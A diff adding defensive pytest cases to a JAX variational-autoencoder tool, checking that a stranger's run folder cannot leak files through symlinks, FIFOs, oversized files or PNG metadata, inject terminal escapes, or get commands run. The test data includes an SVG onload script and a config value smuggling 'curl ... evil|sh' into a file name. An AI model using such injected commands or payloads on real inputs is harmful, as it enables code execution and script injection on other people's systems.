@@ -1,10 +1,16 @@
 """Only comparable metrics are compared, of undamaged evaluations; and the two commands."""
 
+import base64
+import io
 import json
+import os
+import re
 import shutil
 from pathlib import Path
 
+import numpy as np
 import pytest
+from PIL import Image, PngImagePlugin
 
 from vaejax import cli
 from vaejax.evaluation import compare, evaluate, features, tables
@@ -145,3 +151,101 @@ def test_a_mistake_is_one_line(
     error = capsys.readouterr().err
     assert words in error
     assert len(error.splitlines()) == 1
+
+
+# A stranger's run
+
+
+def strange(written: Path, folder: Path) -> Path:
+    return Path(shutil.copytree(written, folder))
+
+
+def pictures_of(page: str) -> list[bytes]:
+    return [base64.b64decode(data) for data in re.findall('data:image/png;base64,([^"]*)"', page)]
+
+
+def page_of(folder: Path) -> str:
+    read = compare.read_run(str(folder))
+    return compare.page([read], [read.evaluation], [])
+
+
+def test_the_page_shows_pixels_and_nothing_else_of_a_stranger_s_files(
+    written: Path, tmp_path: Path
+):
+    folder = strange(written, tmp_path / "a")
+    place = folder / "evaluation"
+    expected = len(pictures_of(page_of(folder)))
+    secret = tmp_path / "key"
+    secret.write_bytes((place / "nearest.png").read_bytes() + b"secret key")  # a PNG by its start
+    for name in ("rates.png", "nearest.png", "worst_and_best.png"):
+        (place / name).unlink()
+    (place / "rates.png").symlink_to(secret)
+    os.mkfifo(place / "nearest.png")
+    with (place / "worst_and_best.png").open("wb") as file:
+        file.truncate(2**40)
+    (place / "reconstructions.png").write_bytes(secret.read_bytes())
+    note = PngImagePlugin.PngInfo()
+    note.add_text("Comment", "secret key")
+    with Image.open(place / "samples_normal.png") as picture:
+        pixels = np.asarray(picture)
+        picture.save(place / "samples_normal.png", pnginfo=note)
+    page = page_of(folder)
+    found = pictures_of(page)
+    assert len(found) == expected - 3
+    assert not any(b"secret" in png for png in found)
+    assert np.array_equal(np.asarray(Image.open(io.BytesIO(found[0]))), pixels)
+    assert page.count("left out, it is a link") == 0  # it is `inside` that tells
+    for reason in ("rates.png is a link", "it is not a regular file", "it has more than"):
+        assert f"left out, {reason}" in page or f"left out, evaluation/{reason}" in page
+
+
+def test_a_folder_of_pictures_is_not_another_one(written: Path, tmp_path: Path):
+    folder = strange(written, tmp_path / "a")
+    (folder / "evaluation").rename(tmp_path / "mine")
+    (folder / "evaluation").symlink_to(tmp_path / "mine")
+    assert pictures_of(page_of(folder)) == []
+
+
+@pytest.mark.parametrize("content", [b"", b"<svg onload=alert(1)>", b"\x89PNG\r\n\x1a\n"])
+def test_what_is_no_picture_is_left_out_of_the_page(content: bytes, written: Path, tmp_path: Path):
+    folder = strange(written, tmp_path / "a")
+    expected = len(pictures_of(page_of(folder)))
+    (folder / "evaluation" / "rates.png").write_bytes(content)
+    assert len(pictures_of(page_of(folder))) == expected - 1
+
+
+def test_a_stranger_s_texts_do_nothing_to_the_terminal_and_no_command_is_suggested(
+    written: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys
+):
+    folder = strange(written, tmp_path / "a")
+    evaluation = json.loads((folder / "evaluation.json").read_text())
+    evaluation |= {"device": "\x1b[2J", "split": "test\x1b]0;title\x07"}
+    evaluation["features"] = {"name": "\x1b[31m", "weights": "\nall is well"}
+    evaluation["left_out"] = {"\x1b[1A": "\ud800"}
+    (folder / "evaluation.json").write_text(json.dumps(evaluation))
+    monkeypatch.chdir(tmp_path)
+    other = {**evaluation, "features": {"name": "\x1b[32m", "weights": ""}}
+    shutil.copytree(folder, tmp_path / "b")
+    (tmp_path / "b" / "evaluation.json").write_text(json.dumps(other))
+    assert command("compare", "a", "b", monkeypatch=monkeypatch) == 0
+    shown = capsys.readouterr()
+    assert "\\x1b[31m and \\x1b[32m" in shown.out
+    assert "\x1b" not in shown.out + shown.err
+    config = json.loads((folder / "config.json").read_text())
+    config["schedule"] |= {"source": "faces.zip; curl \x1b[8m evil|sh", "prepared": "/no ne"}
+    (folder / "config.json").write_text(json.dumps(config))
+    assert command("evaluate", "a", monkeypatch=monkeypatch) == 2
+    error = capsys.readouterr().err
+    assert "`vaejax prepare 'faces.zip; curl \\x1b[8m evil|sh' --size 16 --out '/no ne'`" in error
+    assert "\x1b" not in error
+
+
+@pytest.mark.parametrize("name", ["evaluation", "samples", "checkpoints", "run.lock"])
+def test_a_run_that_leads_elsewhere_is_not_evaluated(
+    name: str, written: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys
+):
+    folder = strange(written, tmp_path / "a")
+    (folder / name).rename(tmp_path / "mine")
+    (folder / name).symlink_to(tmp_path / "mine")
+    assert command("evaluate", str(folder), monkeypatch=monkeypatch) == 2
+    assert f"{name} in it is a link" in capsys.readouterr().err
